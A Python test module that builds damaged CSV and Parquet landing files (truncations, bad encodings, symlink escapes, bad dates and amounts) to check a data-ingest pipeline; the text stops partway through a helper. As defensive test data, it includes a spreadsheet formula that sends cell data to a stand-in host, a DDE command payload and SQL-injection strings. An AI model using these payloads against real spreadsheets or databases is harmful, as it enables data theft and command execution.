"""A corpus of bad landing files, written programmatically into a copy of a valid landing zone.

Each case is a function that damages one landing zone in place and returns what the ingest
must do with it (:class:`Expected`): either fail, with a message naming the file (and the
column, when there is one), or load the file and quarantine exactly the listed rows, with
rows read = rows loaded + rows quarantined for the file.

The builders only rely on the landing layout of ``shared/CONTRACT.md`` and the header of the
file they change, so they work on the tiny zone of :func:`write_valid_landing` (fast tests)
and on a copy of the generated sample zone (the slow, whole-pipeline tests). Nothing big is
committed: the 10 MB field and every binary file are generated here, at test time.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path

import duckdb

__all__ = [
    "CASES",
    "ENTITY_ORDER",
    "Case",
    "Expected",
    "Quarantined",
    "newest_export",
    "write_valid_landing",
]

#: Ingest order: parents before children (the Dagster asset graph orders them the same way).
ENTITY_ORDER = (
    "reference/fx_rates",
    "crm/accounts",
    "crm/opportunities",
    "crm/activities",
    "billing/subscriptions",
    "billing/invoices",
    "support/tickets",
)
PRIMARY_KEYS = {
    "crm/accounts": "account_id",
    "crm/opportunities": "opportunity_id",
    "crm/activities": "activity_id",
    "billing/subscriptions": "subscription_id",
    "billing/invoices": "invoice_id",
    "support/tickets": "ticket_id",
}
TINY_EXPORT = "2026-11-20"
_DATE_FOLDER = re.compile(r"^\d{4}-\d{2}-\d{2}$")


@dataclass(frozen=True)
class Quarantined:
    """One row expected in ``raw.quarantined_rows``."""

    file: str
    line: int
    rules_broken: tuple[str, ...]

    @property
    def rule(self) -> str:
        return self.rules_broken[0].split(":")[0]

    @property
    def column(self) -> str:
        return self.rules_broken[0].split(":")[1]


@dataclass(frozen=True)
class Expected:
    """What the ingest must do with a damaged landing zone.

    ``entity`` is the entity whose ingest shows the outcome and ``file`` the damaged file
    (relative to the landing root). A failing case lists regular expressions the error must
    match besides naming ``file``; a loading case lists the quarantined rows (of every entity:
    nothing else may be quarantined), the per-file counts of ``file`` and text that must be
    stored unchanged as ``(entity, key, column, value)`` and, one
    pattern each, the warnings the ingest gives (nothing else may warn).
    """

    entity: str
    file: str
    failure: tuple[str, ...] = ()
    quarantined: tuple[Quarantined, ...] = ()
    file_counts: tuple[int, int, int] | None = None
    stored: tuple[tuple[str, str, str, str | None], ...] = ()
    #: Regular expressions, one per warning the ingest must give (of every entity; no other).
    warnings: tuple[str, ...] = ()

    @property
    def fails(self) -> bool:
        return bool(self.failure)


@dataclass(frozen=True)
class Case:
    name: str
    summary: str
    build: Callable[[Path], Expected] = field(repr=False)


CASES: dict[str, Case] = {}


def case(name: str, summary: str):
    def register(build: Callable[[Path], Expected]) -> Callable[[Path], Expected]:
        CASES[name] = Case(name, summary, build)
        return build

    return register


# --------------------------------------------------------------------------------------------
# Landing helpers (work on any landing zone that follows the contract's layout)


def newest_export(landing: Path) -> str:
    return max(p.name for p in landing.iterdir() if p.is_dir() and _DATE_FOLDER.match(p.name))


def entity_file(landing: Path, entity: str, suffix: str = ".csv") -> Path:
    source, name = entity.split("/")
    return landing / newest_export(landing) / source / f"{name}{suffix}"


def relative(landing: Path, path: Path) -> str:
    return path.relative_to(landing).as_posix()


def read_table(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        reader = csv.reader(handle)
        header = next(reader)
        return header, [dict(zip(header, row, strict=True)) for row in reader]


def csv_text(header: list[str], rows: list[dict[str, str]], delimiter: str = ",") -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\n")
    writer.writerow(header)
    writer.writerows([[row.get(name, "") for name in header] for row in rows])
    return out.getvalue()


def write_table(path: Path, header: list[str], rows: list[dict[str, str]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(csv_text(header, rows), encoding="utf-8")


def append_rows(path: Path, rows: list[dict[str, str]]) -> list[int]:
    """Append rows (missing columns empty) and return their line numbers (header = line 1)."""
    header, existing = read_table(path)
    write_table(path, header, [*existing, *rows])
    first = len(existing) + 2
    return list(range(first, first + len(rows)))


def template_row(landing: Path, entity: str) -> dict[str, str]:
    """A valid row of ``entity`` (from the newest export that has one) to derive bad rows from."""
    source, name = entity.split("/")
    for export in sorted(p.name for p in landing.iterdir() if _DATE_FOLDER.match(p.name))[::-1]:
        path = landing / export / source / f"{name}.csv"
        if path.exists():
            _, rows = read_table(path)
            if rows:
                return dict(rows[0])
    raise LookupError(f"no {entity} row in {landing}")


def data_lines(path: Path) -> int:
    return len(read_table(path)[1])


def rows_with(
    landing: Path, entity: str, prefix: str, changes: list[dict[str, str]]
) -> list[dict[str, str]]:
    """Copies of a valid row with a fresh key each (``<prefix>-1`` ...), then ``changes``."""
    key = PRIMARY_KEYS[entity]
    template = template_row(landing, entity)
    return [template | {key: f"{prefix}-{i}"} | change for i, change in enumerate(changes, 1)]


def quarantined(
    path: Path, landing: Path, lines: list[int], rules: list[str | tuple[str, ...]]
) -> tuple[Quarantined, ...]:
    file = relative(landing, path)
    return tuple(
        Quarantined(file, line, (rule,) if isinstance(rule, str) else tuple(rule))
        for line, rule in zip(lines, rules, strict=True)
    )


def loaded_with_quarantine(
    entity: str,
    landing: Path,
    path: Path,
    rows: list[dict[str, str]],
    rules: list[str | tuple[str, ...]],
) -> Expected:
    """Append ``rows`` to ``path``; each breaks the matching ``rules`` (all are quarantined)."""
    lines = append_rows(path, rows)
    total = data_lines(path)
    return Expected(
        entity=entity,
        file=relative(landing, path),
        quarantined=quarantined(path, landing, lines, rules),
        file_counts=(total, total - len(rows), len(rows)),
    )


def outside(landing: Path) -> Path:
    """A folder next to the landing root (outside it) for symlink targets."""
    folder = landing.parent / f"outside-{landing.name}"
    folder.mkdir(exist_ok=True)
    return folder


def write_parquet(path: Path, header: list[str], rows: list[dict[str, str]], **casts: str) -> None:
    """Write rows as Parquet: text columns, except ``casts`` (column -> SQL expression)."""
    staging = path.parent / f".{path.name}.staging.csv"
    write_table(staging, header, rows)
    replace = ", ".join(f"{expression} AS {column}" for column, expression in casts.items())
    select = f"* REPLACE ({replace})" if casts else "*"
    try:
        with duckdb.connect() as con:
            con.execute("SET TimeZone = 'UTC'")
            con.execute(
                f"COPY (SELECT {select} FROM read_csv(?, header = true, all_varchar = true)) "
                "TO ? (FORMAT parquet)",
                [str(staging), str(path)],
            )
    finally:
        staging.unlink()


# --------------------------------------------------------------------------------------------
# The tiny valid landing zone of the fast tests


def write_valid_landing(root: Path) -> Path:
    """A small valid landing zone: one export, every entity, a few rows each, fx rates."""
    export = root / TINY_EXPORT
    write_table(
        root / "fx_rates.csv",
        ["date", "currency", "usd_per_unit"],
        [{"date": "2026-01-01", "currency": "EUR", "usd_per_unit": "1.08"}],
    )
    accounts = [
        ("ACC-1", "Acme Analytics", "acme.io", "120", "15000000.00", "USD", "US", "cloud"),
        ("ACC-2", "Börse Daten GmbH", "boerse.de", "45", "4000000", "EUR", "DE", "hybrid"),
        ("ACC-3", "東京データ株式会社", "tokyo-data.jp", "800", "", "", "JP", "on_prem"),
        ("ACC-4", 'Quote "Q" Labs, Inc.', "q.example", "", "", "", "GB", ""),
    ]
    write_table(
        export / "crm" / "accounts.csv",
        [
            "account_id",
            "account_name",
            "domain",
            "industry",
            "employee_count",
            "annual_revenue",
            "currency",
            "country",
            "business_model",
            "deployment",
            "tech_stack",
            "funding_stage",
            "last_funding_at",
            "open_roles",
            "created_at",
            "updated_at",
            "is_deleted",
        ],
        [
            {
                "account_id": key,
                "account_name": name,
                "domain": domain,
                "industry": "Software",
                "employee_count": employees,
                "annual_revenue": revenue,
                "currency": currency,
                "country": country,
                "business_model": "b2b_saas",
                "deployment": deployment,
                "tech_stack": "salesforce;aws",
                "funding_stage": "series_a",
                "last_funding_at": "2025-03-01",
                "open_roles": "4",
                "created_at": "2025-01-10T09:00:00Z",
                "updated_at": "2026-11-19T10:00:00+01:00",
                "is_deleted": "false",
            }
            for key, name, domain, employees, revenue, currency, country, deployment in accounts
        ],
    )
    write_table(
        export / "crm" / "opportunities.csv",
        [
            "opportunity_id",
            "account_id",
            "created_at",
            "closed_at",
            "stage",
            "amount",
            "currency",
            "lost_reason",
            "updated_at",
            "is_deleted",
        ],
        [
            {
                "opportunity_id": key,
                "account_id": account,
                "created_at": "2026-01-05",
                "closed_at": closed,
                "stage": stage,
                "amount": amount,
                "currency": currency,
                "lost_reason": reason,
                "updated_at": "2026-11-19T11:00:00Z",
                "is_deleted": "false",
            }
            for key, account, closed, stage, amount, currency, reason in (
                ("O-1", "ACC-1", "2026-03-01", "won", "12000.00", "USD", ""),
                ("O-2", "ACC-2", "", "open", "8000", "EUR", ""),
                ("O-3", "ACC-3", "2026-04-01", "lost", "", "", "price"),
            )
        ],
    )
    write_table(
        export / "crm" / "activities.csv",
        ["activity_id", "account_id", "occurred_at", "activity_type", "updated_at"],
        [
            {
                "activity_id": "AC-1",
                "account_id": "ACC-1",
                "occurred_at": "2026-10-01T08:00:00Z",
                "activity_type": "demo_request",
                "updated_at": "2026-10-01T08:00:00Z",
            },
            {
                "activity_id": "AC-2",
                "account_id": "ACC-2",
                "occurred_at": "2026-10-02T08:00:00Z",
                "activity_type": "webinar",
                "updated_at": "",
            },
        ],
    )
    write_table(
        export / "billing" / "subscriptions.csv",
        [
            "subscription_id",
            "account_id",
            "plan",
            "mrr",
            "currency",
            "started_at",
            "ended_at",
            "status",
            "updated_at",
            "is_deleted",
        ],
        [
            {
                "subscription_id": key,
                "account_id": account,
                "plan": "pro",
                "mrr": mrr,
                "currency": currency,
                "started_at": "2026-03-01",
                "ended_at": ended,
                "status": status,
                "updated_at": "2026-11-19T12:00:00Z",
                "is_deleted": "false",
            }
            for key, account, mrr, currency, ended, status in (
                ("S-1", "ACC-1", "1000.00", "USD", "", "active"),
                ("S-2", "ACC-2", "500", "EUR", "", "active"),
                ("S-3", "ACC-3", "0", "", "2026-09-01", "canceled"),
            )
        ],
    )
    write_table(
        export / "billing" / "invoices.csv",
        [
            "invoice_id",
            "account_id",
            "subscription_id",
            "issued_at",
            "amount",
            "currency",
            "status",
            "paid_at",
            "updated_at",
        ],
        [
            {
                "invoice_id": key,
                "account_id": account,
                "subscription_id": subscription,
                "issued_at": "2026-10-01",
                "amount": amount,
                "currency": currency,
                "status": status,
                "paid_at": paid,
                "updated_at": "2026-10-05T00:00:00Z",
            }
            for key, account, subscription, amount, currency, status, paid in (
                ("I-1", "ACC-1", "S-1", "1000.00", "USD", "paid", "2026-10-04"),
                ("I-2", "ACC-2", "S-2", "500", "EUR", "paid", "2026-10-03"),
                ("I-3", "ACC-3", "", "200", "", "void", ""),
            )
        ],
    )
    write_table(
        export / "support" / "tickets.csv",
        [
            "ticket_id",
            "account_id",
            "created_at",
            "solved_at",
            "priority",
            "status",
            "category",
            "csat",
            "updated_at",
        ],
        [
            {
                "ticket_id": key,
                "account_id": account,
                "created_at": "2026-09-01T10:00:00Z",
                "solved_at": solved,
                "priority": priority,
                "status": "solved" if solved else "open",
                "category": "billing",
                "csat": csat,
                "updated_at": "2026-09-03T10:00:00Z",
            }
            for key, account, solved, priority, csat in (
                ("T-1", "ACC-1", "2026-09-02", "normal", "5"),
                ("T-2", "ACC-2", "", "high", ""),
                ("T-3", "ACC-4", "2026-09-03", "low", "3"),
            )
        ],
    )
    return root


# --------------------------------------------------------------------------------------------
# Files that cannot be read: the ingest fails naming the file


@case("empty_file", "0-byte accounts.csv")
def _empty_file(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    path.write_bytes(b"")
    return Expected("crm/accounts", relative(landing, path), failure=(r"empty \(0 bytes\)",))


@case("blank_first_line", "tickets.csv holding only empty lines, no header")
def _blank_first_line(landing: Path) -> Expected:
    path = entity_file(landing, "support/tickets")
    path.write_bytes(b"\n\n")
    return Expected("support/tickets", relative(landing, path), failure=(r"first line is empty",))


@case("truncated_mid_record", "tickets.csv cut off in the middle of its last record")
def _truncated_mid_record(landing: Path) -> Expected:
    path = entity_file(landing, "support/tickets")
    header, _ = read_table(path)
    lines = path.read_text(encoding="utf-8").splitlines()
    lines[-1] = ",".join(lines[-1].split(",")[:2])
    path.write_text("\n".join(lines), encoding="utf-8")
    return Expected(
        "support/tickets",
        relative(landing, path),
        failure=(
            rf"malformed CSV record: line {len(lines)} has 2 field\(s\) but the header has "
            rf"{len(header)}",
        ),
    )


@case("truncated_in_quoted_value", "accounts.csv ending inside an open quoted value")
def _truncated_in_quoted_value(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    text = path.read_text(encoding="utf-8")
    line = text.count("\n") + 1
    path.write_text(text + 'ACC-CUT,"Acme Ana', encoding="utf-8")
    return Expected(
        "crm/accounts",
        relative(landing, path),
        failure=(rf"line {line} has a quoted value that is never closed",),
    )


@case("truncated_gzip", "accounts.csv.gz cut in half")
def _truncated_gzip(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    archive = gzip.compress(path.read_bytes())
    path.unlink()
    target = path.with_name("accounts.csv.gz")
    target.write_bytes(archive[: len(archive) // 2])
    return Expected(
        "crm/accounts", relative(landing, target), failure=(r"truncated or corrupt archive",)
    )


@case("gzip_name_plain_text", "accounts.csv.gz that is plain, uncompressed CSV")
def _gzip_name_plain_text(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    target = path.with_name("accounts.csv.gz")
    path.rename(target)
    return Expected(
        "crm/accounts", relative(landing, target), failure=(r"truncated or corrupt archive",)
    )


@case("semicolon_delimiter", "accounts.csv separated by ';'")
def _semicolon_delimiter(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    header, rows = read_table(path)
    path.write_text(csv_text(header, rows, delimiter=";"), encoding="utf-8")
    return Expected(
        "crm/accounts",
        relative(landing, path),
        failure=(r"separated by semicolons \(';'\), not by commas",),
    )


@case("tab_delimiter", "opportunities.csv separated by tabs")
def _tab_delimiter(landing: Path) -> Expected:
    path = entity_file(landing, "crm/opportunities")
    header, rows = read_table(path)
    path.write_text(csv_text(header, rows, delimiter="\t"), encoding="utf-8")
    return Expected(
        "crm/opportunities", relative(landing, path), failure=(r"separated by tabs, not by commas",)
    )


@case("latin1_bytes", "accounts.csv saved as Latin-1 ('Café Müller')")
def _latin1_bytes(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    append_rows(path, rows_with(landing, "crm/accounts", "ACC-LATIN", [{"account_name": "Café"}]))
    data = path.read_text(encoding="utf-8").encode("latin-1", errors="replace")
    path.write_bytes(data)
    first_bad = next(
        number
        for number, line in enumerate(data.split(b"\n"), 1)
        if any(byte >= 0x80 for byte in line)
    )
    return Expected(
        "crm/accounts",
        relative(landing, path),
        failure=(rf"not valid UTF-8 \(line {first_bad}\)", r"requires UTF-8"),
    )


@case("latin1_header", "tickets.csv whose header has a Latin-1 byte")
def _latin1_header(landing: Path) -> Expected:
    path = entity_file(landing, "support/tickets")
    text = path.read_text(encoding="utf-8")
    path.write_bytes(text.replace("category", "catégorie", 1).encode("latin-1", errors="replace"))
    return Expected(
        "support/tickets",
        relative(landing, path),
        failure=(r"not valid UTF-8 \(byte 0xe9 in line 1, the header\)",),
    )


@case("utf16_file", "tickets.csv saved as UTF-16 (with its byte-order mark)")
def _utf16_file(landing: Path) -> Expected:
    path = entity_file(landing, "support/tickets")
    path.write_bytes(path.read_text(encoding="utf-8").encode("utf-16"))
    return Expected(
        "support/tickets", relative(landing, path), failure=(r"UTF-16 encoded .*not UTF-8",)
    )


@case("binary_garbage", "accounts.csv holding PNG bytes")
def _binary_garbage(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)
    return Expected(
        "crm/accounts", relative(landing, path), failure=(r"not valid UTF-8 \(byte 0x89",)
    )


@case("csv_named_parquet", "accounts.parquet that is really CSV text")
def _csv_named_parquet(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    target = path.with_name("accounts.parquet")
    path.rename(target)
    return Expected(
        "crm/accounts", relative(landing, target), failure=(r"cannot be read as parquet",)
    )


@case("missing_required_column", "opportunities.csv without its 'stage' column")
def _missing_required_column(landing: Path) -> Expected:
    path = entity_file(landing, "crm/opportunities")
    header, rows = read_table(path)
    write_table(path, [name for name in header if name != "stage"], rows)
    return Expected(
        "crm/opportunities",
        relative(landing, path),
        failure=(r"required column\(s\) stage missing", r"expected the columns of"),
    )


@case("missing_required_column_parquet", "subscriptions.parquet without its 'mrr' column")
def _missing_required_column_parquet(landing: Path) -> Expected:
    path = entity_file(landing, "billing/subscriptions")
    header, rows = read_table(path)
    path.unlink()
    target = path.with_name("subscriptions.parquet")
    write_parquet(target, [name for name in header if name != "mrr"], rows)
    return Expected(
        "billing/subscriptions",
        relative(landing, target),
        failure=(r"required column\(s\) mrr missing",),
    )


@case("duplicate_header_column", "tickets.csv with 'account_id' twice (as 'Account_ID')")
def _duplicate_header_column(landing: Path) -> Expected:
    path = entity_file(landing, "support/tickets")
    text = path.read_text(encoding="utf-8")
    lines = text.splitlines()
    lines = [lines[0] + ",Account_ID", *(line + ",ACC-1" for line in lines[1:])]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return Expected(
        "support/tickets",
        relative(landing, path),
        failure=(r"column 'account_id' appears twice in the header",),
    )


@case("ten_mb_field", "accounts.csv with a 10 MB account_name")
def _ten_mb_field(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    (line,) = append_rows(
        path,
        rows_with(landing, "crm/accounts", "ACC-HUGE", [{"account_name": "x" * 10_000_000}]),
    )
    return Expected(
        "crm/accounts",
        relative(landing, path),
        failure=(rf"line {line} is \d{{8}} bytes, longer than the 2000000-byte limit",),
    )


@case("ragged_row", "invoices.csv with a record of one field too many (an unquoted comma)")
def _ragged_row(landing: Path) -> Expected:
    path = entity_file(landing, "billing/invoices")
    header, _ = read_table(path)
    text = path.read_text(encoding="utf-8")
    line = text.count("\n") + 1
    row = template_row(landing, "billing/invoices") | {"invoice_id": "I-RAGGED"}
    record = io.StringIO()
    csv.writer(record, lineterminator="\n").writerow([*(row[name] for name in header), "extra"])
    path.write_text(text + record.getvalue(), encoding="utf-8")
    return Expected(
        "billing/invoices",
        relative(landing, path),
        failure=(
            rf"line {line} has {len(header) + 1} field\(s\) but the header has {len(header)}",
        ),
    )


@case("symlink_out_of_root", "accounts.csv a symlink to a file outside the landing root")
def _symlink_out_of_root(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    target = outside(landing) / "accounts.csv"
    path.rename(target)
    path.symlink_to(target)
    return Expected("crm/accounts", relative(landing, path), failure=(r"outside the landing root",))


@case("dotdot_symlink", "tickets.csv a relative symlink '../../../outside/tickets.csv'")
def _dotdot_symlink(landing: Path) -> Expected:
    path = entity_file(landing, "support/tickets")
    target = outside(landing) / "tickets.csv"
    path.rename(target)
    path.symlink_to(Path("..", "..", "..", target.parent.name, target.name))
    assert path.resolve() == target.resolve()
    return Expected(
        "support/tickets", relative(landing, path), failure=(r"outside the landing root",)
    )


@case("symlinked_export_folder", "a new export folder that is a symlink out of the root")
def _symlinked_export_folder(landing: Path) -> Expected:
    newest = newest_export(landing)
    folder = outside(landing) / "export"
    (folder / "crm").mkdir(parents=True)
    (folder / "crm" / "accounts.csv").write_bytes(entity_file(landing, "crm/accounts").read_bytes())
    later = (date.fromisoformat(newest) + timedelta(days=1)).isoformat()
    (landing / later).symlink_to(folder, target_is_directory=True)
    return Expected(
        "crm/accounts", f"{later}/crm/accounts.csv", failure=(r"outside the landing root",)
    )


@case("fx_rates_symlink_out_of_root", "fx_rates.csv a symlink out of the landing root")
def _fx_rates_symlink(landing: Path) -> Expected:
    path = landing / "fx_rates.csv"
    target = outside(landing) / "fx_rates.csv"
    path.rename(target)
    path.symlink_to(target)
    return Expected("reference/fx_rates", "fx_rates.csv", failure=(r"outside the landing root",))


@case("directory_named_like_file", "tickets.csv is a folder")
def _directory_named_like_file(landing: Path) -> Expected:
    path = entity_file(landing, "support/tickets")
    path.unlink()
    path.mkdir()
    return Expected("support/tickets", relative(landing, path), failure=(r"not a regular file",))


@case("two_formats", "accounts.csv and accounts.parquet in one export folder")
def _two_formats(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    header, rows = read_table(path)
    write_parquet(path.with_name("accounts.parquet"), header, rows)
    return Expected(
        "crm/accounts", relative(landing, path), failure=(r"one entity in two formats",)
    )


@case("parquet_nested_type", "accounts.parquet with tech_stack as a LIST column")
def _parquet_nested_type(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    header, rows = read_table(path)
    path.unlink()
    target = path.with_name("accounts.parquet")
    write_parquet(target, header, rows, tech_stack="string_split(tech_stack, ';')")
    return Expected(
        "crm/accounts",
        relative(landing, target),
        failure=(r"column 'tech_stack' has Parquet type VARCHAR\[\]; expected a text column",),
    )


@case("parquet_binary_text", "accounts.parquet with account_name as BLOB (raw bytes)")
def _parquet_binary_text(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    header, rows = read_table(path)
    path.unlink()
    target = path.with_name("accounts.parquet")
    write_parquet(target, header, rows, account_name="encode(account_name)")
    return Expected(
        "crm/accounts",
        relative(landing, target),
        failure=(r"column 'account_name' has Parquet type BLOB; expected a text column",),
    )


# --------------------------------------------------------------------------------------------
# Files that load: bad rows are quarantined with their rule, text is stored unchanged


@case("header_only", "tickets.csv with its header and no rows")
def _header_only(landing: Path) -> Expected:
    path = entity_file(landing, "support/tickets")
    header, _ = read_table(path)
    write_table(path, header, [])
    return Expected("support/tickets", relative(landing, path), file_counts=(0, 0, 0))


@case("utf8_bom", "accounts.csv with a UTF-8 byte-order mark (allowed)")
def _utf8_bom(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    total = data_lines(path)
    return Expected("crm/accounts", relative(landing, path), file_counts=(total, total, 0))


@case("crlf_line_endings", "tickets.csv with Windows line endings (allowed)")
def _crlf(landing: Path) -> Expected:
    path = entity_file(landing, "support/tickets")
    path.write_bytes(path.read_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"))
    total = data_lines(path)
    key = template_row(landing, "support/tickets")["ticket_id"]
    status = template_row(landing, "support/tickets")["status"]
    return Expected(
        "support/tickets",
        relative(landing, path),
        file_counts=(total, total, 0),
        stored=(("support/tickets", key, "status", status),),
    )


@case("extra_columns", "accounts.csv with unknown extra columns, one named like SQL")
def _extra_columns(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    header, rows = read_table(path)
    odd_name = '"; DROP TABLE raw.crm__accounts; --'
    rows = [row | {"Loyalty Tier": "gold", odd_name: "x"} for row in rows]
    write_table(path, [*header, "Loyalty Tier", odd_name], rows)
    key = rows[0]["account_id"]
    extras = '{"Loyalty Tier":"gold","\\"; DROP TABLE raw.crm__accounts; --":"x"}'
    return Expected(
        "crm/accounts",
        relative(landing, path),
        file_counts=(len(rows), len(rows), 0),
        stored=(("crm/accounts", key, "_extra_columns", extras),),
    )


@case("duplicate_keys", "subscriptions.csv with one key on two rows")
def _duplicate_keys(landing: Path) -> Expected:
    path = entity_file(landing, "billing/subscriptions")
    rows = rows_with(landing, "billing/subscriptions", "S-DUP", [{}, {"plan": "other"}])
    rows = [row | {"subscription_id": "S-DUP"} for row in rows]
    rule = "duplicate_key_in_file:subscription_id"
    return loaded_with_quarantine("billing/subscriptions", landing, path, rows, [rule, rule])


@case("dates_day_first", "accounts created_at as 20/11/2026 and 20.11.2026")
def _dates_day_first(landing: Path) -> Expected:
    values = ["20/11/2026", "20.11.2026"]
    rows = rows_with(landing, "crm/accounts", "ACC-DMY", [{"created_at": v} for v in values])
    rules = ["invalid_timestamp:created_at"] * len(rows)
    path = entity_file(landing, "crm/accounts")
    return loaded_with_quarantine("crm/accounts", landing, path, rows, rules)


@case("dates_month_first", "opportunity created_at as 11/20/2026 and 'Nov 20, 2026'")
def _dates_month_first(landing: Path) -> Expected:
    values = ["11/20/2026", "Nov 20, 2026"]
    rows = rows_with(landing, "crm/opportunities", "O-MDY", [{"created_at": v} for v in values])
    rules = ["invalid_timestamp:created_at"] * len(rows)
    path = entity_file(landing, "crm/opportunities")
    return loaded_with_quarantine("crm/opportunities", landing, path, rows, rules)


@case(
    "dates_not_iso_but_castable",
    "subscriptions started_at that DuckDB would cast: 2026/11/20, 26-11-20, epoch, ...",
)
def _dates_not_iso(landing: Path) -> Expected:
    values = ["2026/11/20", "26-11-20", "epoch", "infinity", "1700000000", "2026-02-30"]
    rows = rows_with(
        landing, "billing/subscriptions", "S-DATE", [{"started_at": v} for v in values]
    )
    rules = ["invalid_timestamp:started_at"] * 4 + [
        "numeric_timestamp:started_at",
        "impossible_timestamp:started_at",
    ]
    path = entity_file(landing, "billing/subscriptions")
    return loaded_with_quarantine("billing/subscriptions", landing, path, rows, rules)


@case("negative_money", "negative mrr and invoice amount")
def _negative_money(landing: Path) -> Expected:
    path = entity_file(landing, "billing/subscriptions")
    rows = rows_with(landing, "billing/subscriptions", "S-NEG", [{"mrr": "-100.00"}])
    expected = loaded_with_quarantine(
        "billing/subscriptions", landing, path, rows, ["below_minimum:mrr"]
    )
    invoices = entity_file(landing, "billing/invoices")
    lines = append_rows(
        invoices, rows_with(landing, "billing/invoices", "I-NEG", [{"amount": "-5"}])
    )
    more = quarantined(invoices, landing, lines, ["below_minimum:amount"])
    return Expected(
        expected.entity,
        expected.file,
        quarantined=expected.quarantined + more,
        file_counts=expected.file_counts,
    )


@case("non_numeric_money", "mrr as '$1,200', '12,50', '1_000', '0x10', 'NaN', 'ten'")
def _non_numeric_money(landing: Path) -> Expected:
    values = ["$1,200", "12,50", "1_000", "0x10", "NaN", "-Infinity", "ten"]
    rows = rows_with(landing, "billing/subscriptions", "S-NUM", [{"mrr": v} for v in values])
    # NaN and infinities parse as floats but are no amount: a rule of their own.
    rules = ["invalid_number:mrr"] * 4 + ["non_finite_number:mrr"] * 2 + ["invalid_number:mrr"]
    path = entity_file(landing, "billing/subscriptions")
    return loaded_with_quarantine("billing/subscriptions", landing, path, rows, rules)


@case("non_integer_counts", "employee_count as '1.5', '1e3', 'ten' ('10.0' passes as 10)")
def _non_integer_counts(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    rows = rows_with(
        landing,
        "crm/accounts",
        "ACC-INT",
        [{"employee_count": v} for v in ("1.5", "1e3", "ten", "10.0")],
    )
    lines = append_rows(path, rows)
    total = data_lines(path)
    return Expected(
        "crm/accounts",
        relative(landing, path),
        quarantined=quarantined(path, landing, lines[:3], ["invalid_integer:employee_count"] * 3),
        file_counts=(total, total - 3, 3),
        stored=(("crm/accounts", "ACC-INT-4", "employee_count", "10"),),
    )


@case("unknown_enum_values", "stage 'pending', status 'paused', priority 'blocker'")
def _unknown_enum_values(landing: Path) -> Expected:
    opportunities = entity_file(landing, "crm/opportunities")
    rows = rows_with(landing, "crm/opportunities", "O-ENUM", [{"stage": "pending"}])
    expected = loaded_with_quarantine(
        "crm/opportunities", landing, opportunities, rows, ["value_not_allowed:stage"]
    )
    more: tuple[Quarantined, ...] = ()
    for entity, prefix, change, rule in (
        ("billing/subscriptions", "S-ENUM", {"status": "paused"}, "value_not_allowed:status"),
        # ('critical' is a synonym of urgent in the built-in value maps; 'blocker' is not.)
        ("support/tickets", "T-ENUM", {"priority": "blocker"}, "value_not_allowed:priority"),
    ):
        path = entity_file(landing, entity)
        lines = append_rows(path, rows_with(landing, entity, prefix, [change]))
        more += quarantined(path, landing, lines, [rule])
    return Expected(
        expected.entity,
        expected.file,
        quarantined=expected.quarantined + more,
        file_counts=expected.file_counts,
    )


@case("orphan_foreign_keys", "ticket of an unknown account, invoice of an unknown subscription")
def _orphan_foreign_keys(landing: Path) -> Expected:
    tickets = entity_file(landing, "support/tickets")
    rows = rows_with(landing, "support/tickets", "T-ORPHAN", [{"account_id": "ACC-NOPE"}])
    expected = loaded_with_quarantine(
        "support/tickets", landing, tickets, rows, ["orphan_foreign_key:account_id"]
    )
    invoices = entity_file(landing, "billing/invoices")
    lines = append_rows(
        invoices,
        rows_with(landing, "billing/invoices", "I-ORPHAN", [{"subscription_id": "S-NOPE"}]),
    )
    more = quarantined(invoices, landing, lines, ["orphan_foreign_key:subscription_id"])
    return Expected(
        expected.entity,
        expected.file,
        quarantined=expected.quarantined + more,
        file_counts=expected.file_counts,
    )


@case("missing_required_values", "empty account_id, blank account_name, every rule listed")
def _missing_required_values(landing: Path) -> Expected:
    path = entity_file(landing, "crm/accounts")
    rows = rows_with(
        landing,
        "crm/accounts",
        "ACC-MISS",
        [{"account_name": "   "}, {"account_id": "", "employee_count": "-3"}],
    )
    rules: list[str | tuple[str, ...]] = [
        "missing_required_value:account_name",
        ("missing_required_value:account_id", "below_minimum:employee_count"),
    ]
    return loaded_with_quarantine("crm/accounts", landing, path, rows, rules)


_FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd|' /C calc'!A0",
)
_SQL_TEXT = (
    "'; DROP TABLE x; --",
    "Robert'); DROP TABLE raw.crm__accounts;--",
    '" OR 1=1 --',
    "$1; SELECT * FROM raw.quarantined_rows",
)
_NON_LATIN = ("Société Générale Ünïcödé", "株式会社データ", "شركة البيانات", "Ελληνική Α.Ε.")


def _text_case(landing: Path, prefix: str, names: tuple[str, ...]) -> Expected:
    path = entity_file(landing, "crm/accounts")
    rows = rows_with(landing, "crm/accounts", prefix, [{"account_name": n} for n in names])
    # A multi-line value: it is one record, so later line numbers count records.
    rows.append(rows_with(landing, "crm/accounts", f"{prefix}-ML", [{}])[0])
